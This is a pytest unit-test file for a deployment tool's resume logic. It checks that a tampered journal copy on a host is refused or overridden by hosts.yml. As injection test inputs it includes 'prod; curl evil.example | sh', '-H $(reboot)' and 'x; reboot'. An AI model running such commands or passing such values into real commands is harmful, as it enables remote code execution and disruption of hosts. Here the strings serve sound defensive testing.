"""What a resume believes of the journal that lies on a host."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from tasks.errors import Refused
from tasks.inventory.model import HostSet
from tasks.journal.coding import Entry, as_json, read
from tasks.run.begun import plan_again
from tasks.run.decide import Plan, decide
from tasks.run.lock_file import Lock
from tasks.run.record import begin
from tasks.sop.workflows import RESTART_TOGETHER
from tests.unit.builders import ONE, found, prod, request, well

SET = prod(schema_status="alembic current")
FACTS = found(SET, well())
MINOR = decide(request("minor-upgrade", SET), FACTS)
LOCK = Lock("0123abcd", "alice@desk", "2026-11-26T05:00:00+00:00", "minor-upgrade blockerbugs-1.1.0-1.el7")


def journal(**changes: Any) -> list[Entry]:
    """The first line of the run, but for these keys."""
    raw = {"time": "2026-11-26T05:00:00.000+00:00", "run": LOCK.run, "event": "begin"}
    raw |= as_json(begin(MINOR, "alice@desk")) | changes
    return read([json.dumps(raw)])


def again(
    copy: list[Entry], own: list[Entry] | None = None, lock: Lock = LOCK, host_set: HostSet = SET
) -> tuple[Plan, list[str]]:
    return plan_again(host_set, lock, copy, own or [], FACTS)


def of_plan(plan: Plan, **changes: Any) -> tuple[list[Entry], Lock]:
    """The journal and the lock of a run of this plan."""
    doing = f"{plan.request.procedure.name} {plan.target or ''}".strip()
    return journal(**{**as_json(begin(plan, "alice@desk")), **changes}), replace(LOCK, doing=doing)


def why_not(copy: list[Entry], own: list[Entry] | None = None) -> str:
    with pytest.raises(Refused) as error:
        again(copy, own)
    assert "\n  or: fab prod abort" in f"\n  or: {error.value.next_line}"
    return error.value.problems[0].removeprefix("prod: run 0123abcd cannot be resumed: ")


def test_the_plan_is_the_one_that_was_begun_on_this_machine_or_another() -> None:
    for own in ([], journal()):
        plan, warnings = again(journal(), own)
        assert (plan.phases, plan.target, plan.request.asked_as, warnings) == (MINOR.phases, MINOR.target, "prod", [])


def test_s13_the_host_on_which_the_copy_lies_cannot_change_what_this_machine_wrote() -> None:
    copy = journal(target="blockerbugs-1.2.0-1.el7", unverified="x")
    assert why_not(copy, journal()) == (
        "the journal copy on blockerbugs01 differs from the local journal in: target, unverified"
    )


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        (
            {"target": "blockerbugs-1.2.0-1.el7"},
            "its lock on blockerbugs01 is for minor-upgrade blockerbugs-1.1.0-1.el7, its journal for minor-upgrade "
            "blockerbugs-1.2.0-1.el7",
        ),
        ({"procedure": "major-upgrade"}, "its lock on blockerbugs01 is for minor-upgrade"),
        ({"target": "kittens-1.1.0-1.el7"}, "its journal on blockerbugs01 has kittens-1.1.0-1.el7 for a build of"),
        ({"target": "x; reboot"}, "its journal on blockerbugs01 has x; reboot for a build of blockerbugs"),
        ({"set": "stg"}, "its journal on blockerbugs01 is of stg: minor-upgrade"),
        ({"procedure": "reboot"}, "its journal on blockerbugs01 is of prod: reboot"),
        ({"set": "", "procedure": ""}, "its journal on blockerbugs01 is of no set: nothing"),
        ({"order": ["evil.example", ONE.name, "bad.example"]}, "hosts.yml does not have bad.example, evil.example any"),
        ({"run": "deadbeef"}, "its journal cannot be read"),
        ({"hosts_yml": 5}, "its journal cannot be read"),
        ({"steps": []}, "the steps in its journal are not those that this version runs"),
        ({"steps": [], "version": "0.9"}, "version 0.9 of this tool started the run; this version would run different"),
    ],
)
def test_s13_another_build_set_or_plan_than_the_lock_and_hosts_yml_have_is_refused(
    changes: dict[str, Any], why: str
) -> None:
    assert why in why_not(journal(**changes))


@pytest.mark.parametrize("evil", ["prod; curl evil.example | sh", "-H $(reboot)", "stg", "-H nobody"])
def test_s13_the_words_to_type_next_are_hosts_ymls(evil: str) -> None:
    assert again(journal(asked_as=evil))[0].request.asked_as == "prod"


def test_one_hosts_upgrade_is_typed_for_that_host_again() -> None:
    assert again(journal(asked_as="-H blockerbugs02"))[0].request.asked_as == "-H blockerbugs02"


def test_a_run_that_version_0_1_began_is_refused_with_that_version_where_the_steps_are_others() -> None:
    with pytest.raises(Refused) as error:
        again(journal(version="", steps=[["download", "x"]]))
    assert "version 0.1 of this tool started the run" in error.value.problems[0]
    assert error.value.next_line == "git checkout d6d6b6f && fab prod resume\n  or: fab prod abort"


def test_the_plan_is_the_whole_of_the_one_that_was_begun() -> None:
    asked = request("minor-upgrade", SET, unverified="stg is away", serial=True)
    plan = decide(asked, FACTS)
    copy, lock = of_plan(plan)
    made, _ = again(copy, lock=lock)
    assert made == replace(plan, warnings=())


def test_a_restart_of_all_hosts_at_once_is_resumed_as_one() -> None:
    plan = decide(replace(request("restart-httpd", SET), procedure=RESTART_TOGETHER), FACTS)
    copy, lock = of_plan(plan)
    assert again(copy, lock=lock)[0].request.procedure is RESTART_TOGETHER


def test_a_step_by_itself_that_installs_nothing_has_no_build() -> None:
    plan = decide(request("restart-httpd", SET), FACTS)
    copy, lock = of_plan(plan)
    made = again(copy, lock=lock)[0]
    assert (made.steps, made.target) == (plan.steps, None)


def test_a_run_is_refused_where_what_decides_what_is_done_was_changed_since() -> None:
    with pytest.raises(Refused) as error:
        again(journal(), host_set=SET.model_copy(update={"order": "serial", "rolling": 2}))
    assert error.value.problems == (
        "prod: run 0123abcd cannot be resumed: hosts.yml was changed since it began: order, rolling",
    )
    assert error.value.next_line == "fab prod resume  # after you revert those keys\n  or: fab prod abort"


def test_a_run_goes_on_with_a_warning_where_another_key_was_changed_since() -> None:
    _, warnings = again(journal(), host_set=SET.model_copy(update={"owner": "ops"}))
    assert warnings == ['hosts.yml has changed since the run began: owner was "Fedora QA Devel", is "ops"']


def test_a_run_that_this_very_version_began_with_other_steps_can_only_be_aborted() -> None:
    with pytest.raises(Refused) as error:
        again(journal(steps=[]))
    assert error.value.problems[0].endswith(": the steps in its journal are not those that this version runs")
    assert error.value.next_line == "fab prod abort"


def test_only_this_runs_own_line_on_this_machine_is_compared() -> None:
    others = [*journal(run="deadbeef", target="x"), *read([json.dumps({"event": "end", "run": LOCK.run})])]
    assert again(journal(), others)[0].phases == MINOR.phases


def test_of_a_journal_that_has_other_runs_too_this_ones_line_is_taken() -> None:
    copy = [*journal(run="deadbeef", procedure="sync"), *read([json.dumps({"event": "end", "run": LOCK.run})])]
    assert again([*copy, *journal()])[0].phases == MINOR.phases
    assert why_not(copy) == "its journal cannot be read"


def test_hosts_that_hosts_yml_has_besides_are_no_reason_to_refuse_one_hosts_upgrade() -> None:
    plan = decide(request("minor-upgrade", SET, hosts=[ONE]), FACTS)
    copy, lock = of_plan(plan)
    assert again(copy, lock=lock)[0].hosts == (ONE,)


def test_a_run_whose_journal_cannot_be_read_can_only_be_aborted() -> None:
    with pytest.raises(Refused) as error:
        again([])
    assert error.value.next_line == "fab prod abort"
